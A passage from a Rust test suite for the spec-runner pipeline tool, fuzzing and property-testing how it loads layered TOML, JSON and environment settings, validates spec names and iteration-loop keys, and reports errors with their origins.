        #[test]
        fn generated_pipelines_never_panic(
            doc in pipeline(),
            json in json_text(),
            env in env(),
        ) {
            let dir = tempfile::tempdir().expect("tempdir");
            // Some trees have no TOML form (a NaN key…); those are not interesting.
            let Ok(text) = toml::to_string(&doc) else { return Ok(()) };
            check_load(dir.path(), &text, json.as_deref(), &env)?;
        }

        #[test]
        fn mutated_pipelines_never_panic(
            doc in pipeline(),
            json in json_text(),
            toml_edits in edits(),
            json_edits in edits(),
            env in env(),
        ) {
            let dir = tempfile::tempdir().expect("tempdir");
            let Ok(text) = toml::to_string(&doc) else { return Ok(()) };
            let text = mutate(text, &toml_edits);
            let json = json.map(|j| mutate(j, &json_edits));
            check_load(dir.path(), &text, json.as_deref(), &env)?;
        }

        #[test]
        fn arbitrary_text_never_panics(
            toml_text in "(?s).{0,200}",
            json_text in proptest::option::of("(?s).{0,80}"),
            env in env(),
        ) {
            let dir = tempfile::tempdir().expect("tempdir");
            check_load(dir.path(), &toml_text, json_text.as_deref(), &env)?;
        }

        #[test]
        fn mutated_example_never_panics(edits in edits(), env in env()) {
            let dir = tempfile::tempdir().expect("tempdir");
            let example = include_str!("../../spec-runner.toml");
            let config = include_str!("../../config.json");
            check_load(dir.path(), &mutate(example.to_string(), &edits), Some(config), &env)?;
        }
    }

    /// One spec's setting of `retry_max_retries` in each place it can be written.
    #[derive(Clone, Debug)]
    struct Settings {
        json: Option<u32>,
        file: Option<u32>,
        env: Option<u32>,
        specs: Vec<(Option<u32>, Option<u32>)>,
    }

    proptest! {
        #![proptest_config(config(128))]

        /// Scope beats layer, and within a scope the higher layer wins, for any mix.
        #[test]
        fn the_effective_value_follows_scope_then_layer(
            s in (
                proptest::option::of(0u32..50),
                proptest::option::of(0u32..50),
                proptest::option::of(0u32..50),
                proptest::collection::vec(
                    (proptest::option::of(0u32..50), proptest::option::of(0u32..50)),
                    1..5,
                ),
            ).prop_map(|(json, file, env, specs)| Settings { json, file, env, specs })
        ) {
            let dir = tempfile::tempdir().expect("tempdir");
            let mut toml = String::new();
            if let Some(v) = s.file {
                toml.push_str(&format!("retry_max_retries = {v}\n"));
            }
            let mut env = vec![("HOME".to_string(), "/root".to_string())];
            if let Some(v) = s.env {
                env.push(("SPEC_RUNNER_RETRY_MAX_RETRIES".into(), v.to_string()));
            }
            for (i, (own_file, own_env)) in s.specs.iter().enumerate() {
                toml.push_str(&format!("[specs.s-{i}]\ncommand = \"true\"\n"));
                if let Some(v) = own_file {
                    toml.push_str(&format!("retry_max_retries = {v}\n"));
                }
                if let Some(v) = own_env {
                    env.push((format!("SPEC_RUNNER_SPECS__S_{i}__RETRY_MAX_RETRIES"), v.to_string()));
                }
            }
            let json = s.json.map(|v| format!("{{\"retry_max_retries\": {v}}}"));
            let p = check_load(dir.path(), &toml, json.as_deref(), &env)?;
            let p = p.ok_or_else(|| TestCaseError::fail("valid settings did not load"))?;
            for (i, (own_file, own_env)) in s.specs.iter().enumerate() {
                let name = format!("s-{i}");
                let (expected, origin) = if let Some(v) = own_env {
                    (*v, format!("SPEC_RUNNER_SPECS__S_{i}__RETRY_MAX_RETRIES"))
                } else if let Some(v) = own_file {
                    (*v, format!("spec-runner.toml: specs.{name}.retry_max_retries"))
                } else if let Some(v) = s.env {
                    (v, "SPEC_RUNNER_RETRY_MAX_RETRIES".into())
                } else if let Some(v) = s.file {
                    (v, "spec-runner.toml: retry_max_retries".into())
                } else if let Some(v) = s.json {
                    (v, "config.json: retry_max_retries".into())
                } else {
                    (3, "default".into())
                };
                let spec = &p.specs[p.index_of(&name).expect("spec")];
                prop_assert_eq!(spec.policy.retry.max_retries, expected, "{}", name);
                prop_assert_eq!(spec.origins.get("retry_max_retries"), Some(origin.as_str()));
            }
        }

        /// The schema's spec-name pattern and the loader agree on every name.
        #[test]
        fn schema_and_loader_agree_on_spec_names(name in "[A-Za-z0-9._/ \\\\-]{0,6}") {
            let schema: serde_json::Value = serde_json::from_str(include_str!(
                "../../schema/spec-runner.schema.json"
            )).expect("schema");
            let v = jsonschema::validator_for(&schema).expect("valid schema");
            let mut specs = serde_json::Map::new();
            specs.insert(name.clone(), serde_json::json!({"command": "true"}));
            let doc = serde_json::json!({ "specs": specs });
            prop_assert_eq!(
                v.is_valid(&doc),
                spec_runner::config::validate::valid_spec_name(&name),
                "{:?}", name
            );
        }
    }

    #[test]
    fn names_that_only_differ_in_variable_spelling_still_load_without_variables() {
        let dir = tempfile::tempdir().expect("tempdir");
        let toml = "[specs.a-b]\ncommand = \"x\"\n[specs.\"a.b\"]\ncommand = \"x\"\n[specs.A_B]\ncommand = \"x\"\n";
        let p = check_load(dir.path(), toml, None, &[])
            .expect("checks")
            .expect("loads");
        let names: BTreeMap<&str, usize> = p
            .specs
            .iter()
            .enumerate()
            .map(|(i, s)| (s.name.as_str(), i))
            .collect();
        assert_eq!(names.len(), 3);
    }
}

/// Found by the fuzzer: figment's own value parser panicked on this variable value.
#[test]
fn a_variable_value_that_once_panicked_is_a_clear_error() {
    let run = Test::with_pipeline(ONE_SPEC)
        .env("SPEC_RUNNER_RETRY_JITTER", "[\"ü\\t\"]")
        .args(&["validate"])
        .run();
    run.code(2)
        .stderr_has("variable SPEC_RUNNER_RETRY_JITTER")
        .stderr_has("`retry_jitter`");
}

#[test]
fn variable_values_are_read_as_toml_values_or_else_strings() {
    let run = Test::with_pipeline(ONE_SPEC)
        .env("SPEC_RUNNER_RETRY_MAX_RETRIES", "7")
        .env("SPEC_RUNNER_TIMEOUT_SECONDS", "5m")
        .env(
            "SPEC_RUNNER_RETRY_RULES",
            "[{ exit_codes = [3], action = \"fail\" }]",
        )
        .args(&["plan", "--format", "json"])
        .run();
    let json = run.code(0).json();
    let policy = &json["specs"][0]["policy"];
    assert_eq!(policy["retry_max_retries"], 7);
    assert_eq!(policy["timeout_seconds"], 300.0);
    assert_eq!(policy["retry_rules"][0]["exit_codes"][0], 3);
    assert_eq!(policy["retry_rules"][0]["action"], "fail");
}

#[test]
fn config_json_sets_run_wide_keys_and_timeouts_too() {
    // What the README promises of config.json: every policy key but `on_exhausted`
    // takes effect, the run-wide ones included.
    let t = Test::with_pipeline("[specs.a]\ncommand = \"true\"\n");
    t.write(
        "config.json",
        r#"{"jobs": 3, "fail_fast": true, "state_dir": "st", "junit_path": "j.xml",
            "timeout_seconds": 7, "terminate_grace_seconds": 2, "retry_max_retries": 1}"#,
    );
    let p = crate::procs::run_in(&t, &["plan", "--format", "json"]).json();
    for (key, value) in [
        ("jobs", json!(3)),
        ("fail_fast", json!(true)),
        ("timeout_seconds", json!(7.0)),
        ("terminate_grace_seconds", json!(2.0)),
        ("retry_max_retries", json!(1)),
    ] {
        let (v, origin) = policy(&p, "a", key);
        assert_eq!(
            (v, origin),
            (&value, format!("config.json: {key}").as_str())
        );
    }
    crate::procs::run_in(&t, &["apply"]).code(0);
    assert!(t.path().join("st/state.json").is_file());
    assert!(t.path().join("j.xml").is_file());
}

#[test]
fn the_example_and_starter_pipelines_keep_their_lines_short() {
    // taplo's formatter (npm CLI, VS Code extension) panics on a key whose trailing
    // comment runs past 80 columns (taplo#741): both files people open in an editor
    // keep every line within 80.
    let t = Test::new();
    crate::procs::run_in(&t, &["init"]).code(0);
    for (name, text) in [
        (
            "spec-runner.toml",
            std::fs::read_to_string(repo().join("spec-runner.toml")).unwrap(),
        ),
        ("init's spec-runner.toml", t.read("spec-runner.toml")),
    ] {
        for (i, line) in text.lines().enumerate() {
            assert!(
                line.chars().count() <= 80,
                "{name}:{}: {} columns: {line}",
                i + 1,
                line.chars().count()
            );
        }
    }
}

// ---------------------------------------------------------------------------------
// Iterating specs: the loop keys.
// ---------------------------------------------------------------------------------

#[test]
fn loop_keys_take_effect_with_their_origins() {
    let t = Test::with_pipeline(
        r#"
max_iterations = 20
[specs.work]
command = "claude --print 'next task'"
cwd = "svc"
tasks = ".spec-workflow/specs/work/tasks.md"
until = "cargo test"
no_progress_limit = 5
[specs.plain]
command = "true"
"#,
    );
    t.write("config.json", r#"{"no_commit_limit": 4}"#);
    let p = t
        .env("SPEC_RUNNER_SPECS__PLAIN__MAX_ITERATIONS", "7")
        .args(&["plan", "--format", "json"])
        .run();
    p.code(0);
    let p = p.json();
    let work = spec(&p, "work");
    assert_eq!(work["tasks"], "svc/.spec-workflow/specs/work/tasks.md");
    assert_eq!(work["until"], "cargo test");
    assert_eq!(
        policy(&p, "work", "max_iterations"),
        (&json!(20), "spec-runner.toml: max_iterations")
    );
    assert_eq!(
        policy(&p, "work", "no_progress_limit"),
        (&json!(5), "spec-runner.toml: specs.work.no_progress_limit")
    );
    assert_eq!(
        policy(&p, "plain", "no_progress_limit"),
        (&json!(4), "config.json: no_commit_limit")
    );
    assert_eq!(
        policy(&p, "plain", "max_iterations"),
        (&json!(7), "SPEC_RUNNER_SPECS__PLAIN__MAX_ITERATIONS")
    );
    assert!(spec(&p, "plain")["tasks"].is_null());
}

#[test]
fn plan_explain_shows_the_loop() {
    let t = Test::with_pipeline(
        r#"
[specs.work]
command = "agent"
tasks = "tasks.md"
until = "make check"
"#,
    );
    let run = t.args(&["plan", "--explain"]).run();
    run.code(0)
        .stdout_has("iterates: at most 50 iterations, fails after 3 in a row without progress")
        .stdout_has("tasks = tasks.md (spec-runner.toml: specs.work.tasks)")
        .stdout_has("until = make check (spec-runner.toml: specs.work.until)");
    assert!(
        run.stdout.contains("max_iterations") && run.stdout.contains("no_progress_limit"),
        "{}",
        run.stdout
    );
}

#[test]
fn bad_loop_keys_are_reported_where_they_are_written() {
    let t = Test::with_pipeline(
        r#"
max_iterations = 0
[specs.work]
command = "agent"
tasks = ""
until = []
no_progress_limit = -1
"#,
    );
    let run = t
        .env("SPEC_RUNNER_SPECS__WORK__TASKS", "x.md")
        .args(&["validate"])
        .run();
    run.code(2)
        .problem(
            "spec-runner.toml:2:18",
            "max_iterations",
            &["expected a whole number ≥ 1"],
        )
        .problem("spec-runner.toml:5:9", "specs.work.tasks", &["empty path"])
        .problem(
            "spec-runner.toml:6:9",
            "specs.work.until",
            &["empty command"],
        )
        .problem(
            "spec-runner.toml:7:21",
            "specs.work.no_progress_limit",
            &["out of range"],
        )
        .problem(
            "variable SPEC_RUNNER_SPECS__WORK__TASKS",
            "specs.work.tasks",
            &["only be set in the pipeline file"],
        );
}

#[test]
fn both_names_of_the_breaker_in_config_json_is_a_problem() {
    let t = Test::with_pipeline(ONE_SPEC);
    t.write(
        "config.json",
        r#"{"no_commit_limit": 3, "no_progress_limit": 4}"#,
    );
    t.args(&["validate"]).run().code(2).problem(
        "config.json",
        "no_commit_limit",
        &["keep one of them"],
    );
}

#[test]
fn the_loop_variables_spec_runner_sets_are_not_policy() {
    let t = Test::with_pipeline(ONE_SPEC);
    t.envs(&[
        ("SPEC_RUNNER_ITERATION", "3"),
        ("SPEC_RUNNER_TASKS_DONE", "2"),
        ("SPEC_RUNNER_TASKS_TOTAL", "5"),
        ("SPEC_RUNNER_TASKS_PENDING", "2"),
        ("SPEC_RUNNER_TASKS_IN_PROGRESS", "1"),
        (
            "SPEC_RUNNER_TASKS_SUMMARY",
            "2/5 tasks complete (2 pending, 1 in progress)",
        ),
    ])
    .args(&["validate"])
    .run()
    .code(0);
}
